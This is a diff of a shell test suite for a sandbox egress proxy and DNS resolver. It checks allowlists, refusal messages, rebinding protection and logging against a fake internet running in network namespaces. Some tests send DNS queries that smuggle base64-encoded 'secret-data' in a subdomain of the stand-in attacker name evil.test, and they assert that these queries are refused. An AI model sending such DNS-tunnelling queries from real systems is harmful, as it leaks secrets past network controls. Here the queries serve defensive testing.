@@ -1,8 +1,9 @@
 #!/usr/bin/env bats
 # ss-net on its own: the policy commands, and the proxy and resolver against a stand-in for the
-# internet on loopback (a DNS server for fake names, an HTTP and an HTTPS server with a test CA).
-# Transparent interception runs in a network namespace of the test's own, where the test's
-# firewall rule redirects connections to a TEST-NET-2 address to ss-net, as a backend's would.
+# internet (a DNS server for fake names, an HTTP and an HTTPS server with a test CA) in a network
+# namespace of the test's own, ss-net and its clients in another (world_up). Transparent
+# interception is tested there, where the test's firewall rule redirects connections to a
+# TEST-NET-2 address to ss-net, as a backend's would.
 
 load helpers
 load net_world
@@ -16,29 +17,33 @@ teardown() {
   net_teardown
 }
 
-# The stand-in internet: names allowed.test, other.test, evil.test and rebind.test, the first
-# three at 127.0.0.1 and rebind.test at 127.0.0.2; an HTTP and an HTTPS server on 127.0.0.1.
+# The stand-in internet (world_up): names allowed.test, other.test and evil.test at $OUTSIDE,
+# rebind.test at 10.1.2.3 (a private address) and NAME=ADDRESS for each argument; an HTTP and an
+# HTTPS server at $OUTSIDE. ss-net and its clients run in $NS.
 fake_internet() {
-  background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" 127.0.0.1 0 \
-    "$W/dns.queries" allowed.test=127.0.0.1 other.test=127.0.0.1 evil.test=127.0.0.1 \
-    rebind.test=127.0.0.2
+  world_up
+  NS=$OUT background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" "$OUTSIDE" 0 \
+    "$W/dns.queries" allowed.test="$OUTSIDE" other.test="$OUTSIDE" evil.test="$OUTSIDE" \
+    rebind.test=10.1.2.3 "$@"
   DNS_PORT=$(cat "$W/dns.port")
   mkdir -p "$W/www"
   echo "hello from outside" >"$W/www/index.html"
-  background "$W/http.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" 127.0.0.1 0 "$W/www"
+  NS=$OUT background "$W/http.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" "$OUTSIDE" 0 \
+    "$W/www"
   HTTP_PORT=$(cat "$W/http.port")
   openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=test-ca \
     -addext "subjectAltName=DNS:allowed.test,DNS:evil.test" \
     -keyout "$W/tls.key" -out "$W/tls.crt" 2>/dev/null
-  background "$W/https.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" 127.0.0.1 0 "$W/www" \
-    "$W/tls.crt" "$W/tls.key"
+  NS=$OUT background "$W/https.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" "$OUTSIDE" 0 \
+    "$W/www" "$W/tls.crt" "$W/tls.key"
   HTTPS_PORT=$(cat "$W/https.port")
 }
 
-# serve ARGS...: ss-net serve for sandbox "box" with the stand-in resolver upstream.
+# serve ARGS...: ss-net serve for sandbox "box" in the test's host with the stand-in resolver
+# upstream.
 serve() {
   background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
-    --upstream-dns "127.0.0.1:$DNS_PORT" "$@"
+    --upstream-dns "$OUTSIDE:$DNS_PORT" "$@"
   PROXY=$(jq -r '.proxy[0] // empty' "$W/ready.json")
   DNS=$(jq -r '.dns[0] // empty' "$W/ready.json")
   TRANSPARENT=$(jq -r '.transparent[0] // empty' "$W/ready.json")
@@ -114,39 +119,39 @@ LOG() { cat "$SS_HOME/.ss/sandboxes/box/net/log.jsonl"; }
 
 @test "net: the proxy lets allowed names through and refuses the rest at once, with the reason" {
   fake_internet
-  ss net allow allowed.test rebind.test 127.0.0.1 --sandbox box >/dev/null
+  ss net allow allowed.test rebind.test --sandbox box >/dev/null
   serve --proxy 127.0.0.1:0
   # Plain HTTP and CONNECT to an allowed name.
-  run curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
   assert_success
   assert_output "hello from outside"
-  run curl -sS -p --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  run in_ns curl -sS -p --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
   assert_output "hello from outside"
-  run curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://allowed.test:$HTTPS_PORT/"
+  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://allowed.test:$HTTPS_PORT/"
   assert_output "hello from outside"
   # Denied: 403 with one line naming the rule and the command.
-  run curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://evil.test:$HTTP_PORT/"
+  run in_ns curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://evil.test:$HTTP_PORT/"
   assert_output "ss-net: evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test
 403"
-  run curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://evil.test:$HTTPS_PORT/"
+  run in_ns curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://evil.test:$HTTPS_PORT/"
   assert_failure
   assert_output --partial "403"
   # An allowed name that resolves into the host's networks, and an address named directly.
-  run curl -s --proxy "http://$PROXY" "http://rebind.test:$HTTP_PORT/"
-  assert_output "ss-net: rebind.test:$HTTP_PORT leads to 127.0.0.2, an address on the host or its network, which sandbox 'box' may not reach; to allow it: ss net allow 127.0.0.2"
-  run curl -s --proxy "http://$PROXY" "http://127.0.0.3:$HTTP_PORT/"
+  run in_ns curl -s --proxy "http://$PROXY" "http://rebind.test:$HTTP_PORT/"
+  assert_output "ss-net: rebind.test:$HTTP_PORT leads to 10.1.2.3, an address on the host or its network, which sandbox 'box' may not reach; to allow it: ss net allow 10.1.2.3"
+  run in_ns curl -s --proxy "http://$PROXY" "http://127.0.0.3:$HTTP_PORT/"
   assert_output "ss-net: 127.0.0.3:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow 127.0.0.3"
   # Not proxy requests.
-  run curl -s -w '%{http_code}' "http://$PROXY/x"
+  run in_ns curl -s -w '%{http_code}' "http://$PROXY/x"
   assert_output "ss-net: a proxy request needs an absolute http:// URL (or CONNECT)
 400"
   # What the sandbox can read about its denials.
-  run curl -s "http://$PROXY/denials"
+  run in_ns curl -s "http://$PROXY/denials"
   assert_line --regexp "^[0-9T:Z-]+ http evil.test:$HTTP_PORT: evil.test:$HTTP_PORT is not in the allowlist"
   assert_line --regexp "^[0-9T:Z-]+ connect evil.test:$HTTPS_PORT: "
   # The log: one line per connection, bytes counted for what went through.
   LOG | jq -e -s "map(select(.verdict == \"allow\" and .kind == \"http\" and .destination == \"allowed.test\"
-    and .port == $HTTP_PORT and .address == \"127.0.0.1\" and .bytes_in > 0 and .bytes_out > 0
+    and .port == $HTTP_PORT and .address == \"$OUTSIDE\" and .bytes_in > 0 and .bytes_out > 0
     and .rule == \"allow allowed.test\" and .sandbox == \"box\")) | length == 1"
   LOG | jq -e -s 'map(select(.verdict == "deny")) | length == 4'
   [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net/log.jsonl")" = 600 ]
@@ -160,24 +165,24 @@ LOG() { cat "$SS_HOME/.ss/sandboxes/box/net/log.jsonl"; }
 
 @test "net: a policy change counts for the next connection, without a restart" {
   fake_internet
-  ss net allow allowed.test 127.0.0.1 --sandbox box >/dev/null
+  ss net allow allowed.test --sandbox box >/dev/null
   serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
-  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
   assert_output 403
   ss net allow other.test --sandbox box >/dev/null
-  run curl -s --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  run in_ns curl -s --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
   assert_output "hello from outside"
-  run dig +short -p "${DNS##*:}" @127.0.0.1 other.test
-  assert_output 127.0.0.1
+  run in_ns dig +short -p "${DNS##*:}" @127.0.0.1 other.test
+  assert_output "$OUTSIDE"
   ss net deny other.test --sandbox box >/dev/null
-  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
   assert_output 403
   ss net mode none --sandbox box >/dev/null
-  run curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  run in_ns curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
   assert_output "ss-net: sandbox 'box' has no network (mode none); to change it: ss net mode allowlist"
   # A damaged policy file keeps the last good policy.
   echo '{"mode":' >"$SS_HOME/.ss/sandboxes/box/net/policy.json"
-  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  run in_ns curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
   assert_output 403
   grep -q "keeping the previous policy" "$W/ready.json.err"
 }
@@ -187,20 +192,20 @@ LOG() { cat "$SS_HOME/.ss/sandboxes/box/net/log.jsonl"; }
   ss net allow allowed.test rebind.test --sandbox box >/dev/null
   serve --dns 127.0.0.1:0
   local p=${DNS##*:}
-  run dig +short -p "$p" @127.0.0.1 allowed.test
-  assert_output 127.0.0.1
-  run dig +short +tcp -p "$p" @127.0.0.1 ALLOWED.test
-  assert_output 127.0.0.1
-  run dig -p "$p" @127.0.0.1 evil.test
+  run in_ns dig +short -p "$p" @127.0.0.1 allowed.test
+  assert_output "$OUTSIDE"
+  run in_ns dig +short +tcp -p "$p" @127.0.0.1 ALLOWED.test
+  assert_output "$OUTSIDE"
+  run in_ns dig -p "$p" @127.0.0.1 evil.test
   assert_output --partial "status: NXDOMAIN"
   # Data carried out in a name, in a TXT lookup of an allowed name, in a name with odd bytes.
-  run dig -p "$p" @127.0.0.1 TXT c2VjcmV0LWRhdGE.evil.test
+  run in_ns dig -p "$p" @127.0.0.1 TXT c2VjcmV0LWRhdGE.evil.test
   assert_output --partial "status: NXDOMAIN"
-  run dig -p "$p" @127.0.0.1 TXT allowed.test
+  run in_ns dig -p "$p" @127.0.0.1 TXT allowed.test
   assert_output --partial "status: REFUSED"
-  run dig -p "$p" @127.0.0.1 'c2Vj\.allowed.test'
+  run in_ns dig -p "$p" @127.0.0.1 'c2Vj\.allowed.test'
   assert_output --partial "status: NXDOMAIN"
-  run dig -p "$p" @127.0.0.1 +tcp ANY allowed.test
+  run in_ns dig -p "$p" @127.0.0.1 +tcp ANY allowed.test
   assert_output --partial "status: REFUSED"
   # The upstream saw allowed.test (A) only.
   run sort -u "$W/dns.queries"
@@ -245,7 +250,8 @@ EOF
   assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: the network proxy of sandbox 'box' is not running" "hint: ss starts it with the sandbox's next command")"
 
   fake_internet
-  ss net allow allowed.test 127.0.0.1 --sandbox box >/dev/null
+  relay=(ip netns exec "$NS" "${relay[@]}")
+  ss net allow allowed.test --sandbox box >/dev/null
   record() {  # what ss writes for an ss-net on loopback (egress.cpp)
     jq -c --argjson pid "$1" '{pid: $pid, interface: "", ready: .}' "$W/ready.json" \
       >"$SS_HOME/.ss/sandboxes/box/net/serve.json"
@@ -258,7 +264,7 @@ EOF
   assert_line --partial "HTTP/1.1 200"
   assert_line "hello from outside"
   run dns_over "${relay[@]}" --to dns
-  assert_output "rcode 0 127.0.0.1"
+  assert_output "rcode 0 $OUTSIDE"
   # ss-net gone, then started again on other ports: the next connection goes there.
   first=${PIDS[-1]}
   serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
@@ -268,7 +274,7 @@ EOF
   assert_failure 69
   record "${PIDS[-1]}"
   run dns_over "${relay[@]}" --to dns
-  assert_output "rcode 0 127.0.0.1"
+  assert_output "rcode 0 $OUTSIDE"
   # An ss-net behind a firewall fence (not on loopback) is not for relays.
   jq -c 'del(.interface)' "$SS_HOME/.ss/sandboxes/box/net/serve.json" >"$W/r" &&
     mv "$W/r" "$SS_HOME/.ss/sandboxes/box/net/serve.json"
@@ -277,15 +283,10 @@ EOF
 }
 
 @test "net: transparent interception decides on SNI and Host, and resets what it refuses" {
-  NS="ssnet-test-$$"
-  ip netns add "$NS"
-  ip -n "$NS" link set lo up
-  ip -n "$NS" link add fake0 type veth peer name fake1
-  ip -n "$NS" link set fake1 up
-  ip -n "$NS" addr add 198.51.100.1/24 dev fake0
-  ip -n "$NS" link set fake0 up
   fake_internet
-  ss net allow allowed.test 127.0.0.1 --sandbox box >/dev/null
+  # Where the sandbox's connections seem to go: a TEST-NET-2 address, redirected to ss-net.
+  ip -n "$NS" route add 198.51.100.0/24 dev wan0
+  ss net allow allowed.test --sandbox box >/dev/null
   serve --transparent 127.0.0.1:0 --proxy 127.0.0.1:0
   redirect_outside "$HTTP_PORT" "$HTTPS_PORT"
   run in_ns curl -sS --resolve "allowed.test:$HTTP_PORT:198.51.100.9" "http://allowed.test:$HTTP_PORT/"
@@ -317,8 +318,8 @@ EOF
 @test "net: serve says which listener it cannot bind" {
   fake_internet
   serve --proxy 127.0.0.1:0
-  run --separate-stderr "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
-    --upstream-dns "127.0.0.1:$DNS_PORT" --proxy "$PROXY"
+  run --separate-stderr in_ns "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
+    --upstream-dns "$OUTSIDE:$DNS_PORT" --proxy "$PROXY"
   assert_failure 69
   [[ "$stderr" == "ss-net: error: cannot listen for the proxy on 127.0.0.1 port ${PROXY##*:}: Address already in use" ]]
 }
@@ -328,15 +329,22 @@ EOF
 # tries every way out. The host forwards packets, as one running a container engine does (a new
 # namespace inherits IPv4 forwarding from the machine's own, which is off until an engine turns it
 # on: without it the host drops what the fence should refuse, and the refusals time out).
-# wire NS_A IF_A ADDR_A NS_B IF_B ADDR_B: a veth pair between two namespaces, a /24 on it, and
-# B's default route through A.
+# wire NS_A IF_A ADDR_A NS_B IF_B ADDR_B [routed]: a veth pair between two namespaces, a /24 on
+# it, and B's default route through A; routed: a point-to-point link instead, each side a /32 and
+# a route to the other (the host's link to the internet: the internet is on none of its networks).
 wire() {
+  local prefix=24
+  [ "${7:-}" != routed ] || prefix=32
   ip -n "$1" link add "$2" type veth peer name "$5" netns "$4"
-  ip -n "$1" addr add "$3/24" dev "$2"
+  ip -n "$1" addr add "$3/$prefix" dev "$2"
   ip -n "$1" link set "$2" up
-  ip -n "$4" addr add "$6/24" dev "$5"
+  ip -n "$4" addr add "$6/$prefix" dev "$5"
   ip -n "$4" link set "$5" up
-  ip -n "$4" route add default via "$3"
+  if [ "$prefix" = 32 ]; then
+    ip -n "$1" route add "$6/32" dev "$2"
+    ip -n "$4" route add "$3/32" dev "$5"
+  fi
+  ip -n "$4" route add default via "$3" dev "$5"
 }
 
 fenced_world() {
@@ -344,7 +352,7 @@ fenced_world() {
   for ns in "$H" "$S" "$I"; do ip netns add "$ns"; ip -n "$ns" link set lo up; done
   NSES=("$H" "$S" "$I")
   wire "$H" sbx-h 10.77.0.1 "$S" sbx-s 10.77.0.2
-  wire "$H" inet-h 198.51.100.1 "$I" inet-i 198.51.100.2
+  wire "$H" inet-h 198.51.100.1 "$I" inet-i 198.51.100.2 routed
   ip netns exec "$H" sysctl -qw net.ipv4.ip_forward=1
   # The sandbox's resolver is an outside one: the fence must catch lookups sent anywhere.
   mkdir -p "/etc/netns/$S"
